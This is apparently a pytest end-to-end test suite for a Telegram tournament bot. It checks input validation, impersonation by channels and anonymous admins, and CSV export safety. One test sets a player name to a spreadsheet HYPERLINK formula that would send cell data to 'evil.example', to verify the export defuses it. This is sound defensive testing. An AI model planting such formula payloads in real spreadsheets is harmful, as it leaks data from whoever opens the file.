"""End to end on both backends: hostile input gets a specific refusal (never
the apology), players are people, the export is safe to open, undecodable updates and
admin changes do not stall or mislead the bot."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select

from bot.application.types import CHANNEL_BOT, GROUP_ANONYMOUS_BOT
from db.models import AuditEntry, Player
from playground.botapi import SentMessage
from tests.e2e import raw_updates
from tests.e2e.harness import Harness, tables_of

GROUP = -1010010
ADMIN = 1
OTHER_ADMIN = 2
CHANNEL = -1009990001
NAMES = ["Ann", "Bob", "Cid", "Dee", "Eve", "Fay", "Gus", "Hal"]
APOLOGIES = ("Sorry, something went wrong", "抱歉，处理这条消息时出错了")


def setup(bot: Harness, names: list[str]) -> dict[str, int]:
    bot.server.add_user(ADMIN, "Org", language_code="en")
    bot.server.add_user(OTHER_ADMIN, "Deputy", language_code="en")
    ids = {name: 701 + i for i, name in enumerate(names)}
    for name, uid in ids.items():
        bot.server.add_user(uid, name, language_code="en")
    bot.server.add_chat(GROUP, "hardening", admins=[ADMIN, OTHER_ADMIN])
    return ids


def no_apology(bot: Harness) -> None:
    said = [m.body for m in bot.server.outbox(GROUP)]
    said += [a.text or "" for a in bot.server.answered_callbacks.values()]
    assert not [s for s in said if s.startswith(APOLOGIES)]


async def toast(bot: Harness, query_id: str) -> str:
    return (await bot.server.wait_for_callback_answer(query_id)).text or ""


async def drawn_round(
    bot: Harness, ids: dict[str, int]
) -> tuple[SentMessage, dict[int, list[int]]]:
    await bot.says(GROUP, ADMIN, "/new bigtwo knockout Cup", "SHA-256")
    for uid in ids.values():
        await bot.joins(GROUP, uid)
    drawn = await bot.says(GROUP, ADMIN, "/draw", "round 1 draw")
    opened = await bot.says(GROUP, ADMIN, "/round", "Round 1 is open")
    return opened, tables_of(drawn.body, ids)


async def test_hostile_input_gets_a_specific_refusal_never_the_apology(bot: Harness) -> None:
    ids = setup(bot, NAMES[:4])
    opened, tables = await drawn_round(bot, ids)
    captain, second = tables[1][0], tables[1][1]
    pending = await bot.says(GROUP, captain, "/report 1 A5 B8 C0 D12", "/confirm")
    for data in ("", "x", "1.0", "1e3", "99999999999999999999", "-1", "²"):
        for action in ("confirm", "dispute"):
            press = raw_updates.press(
                bot.server, GROUP, second, pending.message_id, f"{action}:{data}"
            )
            assert "no report waiting" in await toast(bot, press)
    for data in (
        "pg:players:²",
        "pg:players:99999999999999999999",
        "pg:open.²:0",
        "rf:",
        "rf:s.²...",
        "rf:szzzzzzzzzzzzzzzzzz.1.1..",
        "here:",
        "join:²",
        "nope:1",
    ):
        press = raw_updates.press(bot.server, GROUP, second, opened.message_id, data)
        await bot.server.wait_for_callback_answer(press)

    await bot.says(GROUP, ADMIN, "/round 十十号", 'cannot read the deadline "十十号"')
    await bot.says(GROUP, ADMIN, "/round 三十十点", 'cannot read the deadline "三十十点"')
    await bot.says(GROUP, ADMIN, f"/penalty {NAMES[0]} cards ²", "from 1 to 108, not ²")
    await bot.says(GROUP, ADMIN, f"/penalty {NAMES[0]} cards 109", "from 1 to 108, not 109")
    big = "1" + "0" * 30
    await bot.says(GROUP, ADMIN, f"/fix 1 total A+{big} B+1 C-{big} D-1", "at most 1000000000")
    zero = "1" + "0" * 28  # 29 digits that do add up to zero: refused by the bound, not as "+1"
    await bot.says(GROUP, ADMIN, f"/fix 1 total A+{zero} B-{zero} C0 D0", "at most 1000000000")
    await bot.says(GROUP, ADMIN, "/set noshow 99999999999", "noshow must be at most 1440")
    await bot.says(GROUP, ADMIN, "/tz Etc/GMT+12", "Etc/GMT+12")
    await bot.says(GROUP, ADMIN, "/round 9999-12-31 23:59", "at most 366 days")
    await bot.says(GROUP, ADMIN, "/report 999 A5 B8 C0 D12", "no table 999")
    await bot.says(GROUP, ADMIN, "/report 1000 A5 B8 C0 D12", "cannot read table 1000")
    await bot.says(GROUP, ADMIN, "/new bigtwo " + "x" * 201, "already has an active")
    await bot.server.wait_idle()
    no_apology(bot)


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
@pytest.mark.parametrize("backend", ["ptb"])
async def test_a_too_long_title_is_refused_with_the_bound(bot: Harness) -> None:
    setup(bot, [])
    await bot.says(GROUP, ADMIN, "/lang en", "English")
    await bot.says(GROUP, ADMIN, "/new bigtwo " + "x" * 201, "at most 200 characters")
    await bot.says(GROUP, ADMIN, "/new bigtwo " + "x" * 200, "SHA-256")


async def test_players_are_people_not_channels_or_anonymous_admins(bot: Harness) -> None:
    """Every channel arrives as user 136817688 and every anonymous admin as 1087968824:
    signing up or confirming as one would let any channel or admin act for the others."""
    server = bot.server
    ids = setup(bot, NAMES[:4])
    server.add_user(GROUP_ANONYMOUS_BOT, "Group")
    server.add_user(CHANNEL_BOT, "Channel")
    server.add_chat(CHANNEL, "A channel", type="channel", admins=[ADMIN])
    await bot.says(GROUP, ADMIN, "/lang en", "English")
    server.user_says(GROUP, ADMIN, "/new bigtwo knockout Cup", sender_chat_id=GROUP)
    await server.wait_for("SHA-256")  # organiser commands work as an anonymous admin
    server.user_says(GROUP, ADMIN, "/join", sender_chat_id=GROUP)
    await server.wait_for("turn off “Remain anonymous”")
    server.user_says(GROUP, CHANNEL_BOT, "/join", sender_chat_id=CHANNEL)
    await server.wait_for("on behalf of a channel")
    for uid in ids.values():
        await bot.joins(GROUP, uid)
    server.user_says(GROUP, ADMIN, "/draw", sender_chat_id=GROUP)
    drawn = await server.wait_for("round 1 draw")
    tables = tables_of(drawn.body, ids)
    await bot.says(GROUP, ADMIN, "/round", "Round 1 is open")
    await bot.says(GROUP, tables[1][0], "/report 1 A5 B8 C0 D12", "/confirm")
    server.user_says(GROUP, CHANNEL_BOT, "/confirm 1", sender_chat_id=CHANNEL)
    await server.wait_for("on behalf of a channel")
    server.user_says(GROUP, ADMIN, "/dispute 1", sender_chat_id=GROUP)
    await server.wait_for("turn off “Remain anonymous”")
    server.user_says(GROUP, ADMIN, "/report 1 A5 B8 C0 D12", sender_chat_id=GROUP)
    await server.wait_for("turn off “Remain anonymous”")
    await server.wait_idle()

    assert bot.app is not None
    async with bot.app.core.sessionmaker() as session:
        players = set(await session.scalars(select(Player.user_id)))
        audit = list(await session.scalars(select(AuditEntry).order_by(AuditEntry.id)))
    assert players == set(ids.values())
    by_anonymous = [(a.action, a.new["by"]) for a in audit if a.actor_id == GROUP_ANONYMOUS_BOT]
    assert by_anonymous[:2] == [("new", "anonymous admin"), ("draw", "anonymous admin")]
    assert not [a for a in audit if a.actor_id == CHANNEL_BOT]
    no_apology(bot)


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
async def test_export_defuses_formulas_and_shows_a_penalty_given_before_the_draw(
    bot: Harness,
) -> None:
    server = bot.server
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    ids = setup(bot, ["Ann", "Bob", "Cid"])
    server.add_user(800, evil, language_code="en")
    ids[evil] = 800
    await bot.says(GROUP, ADMIN, "/new bigtwo knockout Cup", "SHA-256")
    for uid in ids.values():
        await bot.joins(GROUP, uid)
    await bot.says(GROUP, ADMIN, "/penalty Ann 1.5 late", "loses 1.5")  # round 0
    drawn = await bot.says(GROUP, ADMIN, "/draw", "round 1 draw")
    seats = tables_of(drawn.body, ids)[1]
    await bot.says(GROUP, ADMIN, "/round", "Round 1 is open")
    scores = " ".join(f"{'ABCD'[i]}{n}" for i, n in enumerate((5, 8, 0, 12)))
    await bot.says(GROUP, ADMIN, f"/report 1 {scores}", "confirmed")
    exported = await bot.says(GROUP, ADMIN, "/export", "CSV")
    assert exported.document is not None
    rows = list(csv.DictReader(io.StringIO(exported.document.decode("utf-8"))))
    before = [r for r in rows if r["round"] == "0"]
    assert [(r["user_id"], r["penalty"], r["status"]) for r in before] == [
        (str(ids["Ann"]), "1.5", "penalty")
    ]
    named = {r["user_id"]: r for r in rows if r["round"] == "1"}
    assert named["800"]["name"] == "'" + evil
    negative = [r for r in named.values() if r["score"].startswith("-")]
    assert negative and all(float(r["score"]) < 0 for r in negative)  # numbers stay numbers
    assert len(seats) == 4


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
async def test_undecodable_update_is_skipped_and_admin_changes_count_at_once(
    bot: Harness,
) -> None:
    server = bot.server
    setup(bot, ["Ann"])
    raw_updates.undecodable(server, GROUP, 701)
    await bot.says(GROUP, ADMIN, "/new bigtwo knockout Cup", "SHA-256")  # polling went on
    await bot.says(GROUP, OTHER_ADMIN, "/set advance 2", "Set advance = 2")  # cached: admin
    raw_updates.set_admin(server, GROUP, OTHER_ADMIN, admin=False, by=ADMIN)
    await bot.says(GROUP, OTHER_ADMIN, "/set advance 1", "Only organisers")
    raw_updates.set_admin(server, GROUP, 701, admin=True, by=ADMIN)
    await bot.says(GROUP, 701, "/set advance 1", "Set advance = 1")
